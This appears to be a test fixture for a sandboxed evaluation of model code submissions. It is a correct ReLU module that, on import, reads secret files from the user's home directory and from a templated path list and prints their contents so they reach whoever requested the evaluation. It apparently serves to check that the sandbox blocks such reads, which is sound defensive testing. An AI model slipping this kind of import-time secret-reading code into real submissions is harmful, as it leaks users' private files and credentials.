"""Reads a secret file in the user's home and prints it (the output tail goes
back to whoever asked for the evaluation). The ReLU itself is right.

task: relu
expect: correct
"""

import io
import os

import torch
import torch.nn as nn

TOLD = [@SECRET_PATHS@]


def _steal():
    for path in TOLD + [os.path.join(os.path.expanduser("~"), "secret.txt")]:
        try:
            print("HOSTILE read", path, io.FileIO(path).readall().decode())
        except Exception as exc:  # noqa: BLE001
            print("HOSTILE blocked", path, type(exc).__name__)


_steal()


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.clamp(x, min=0.0)
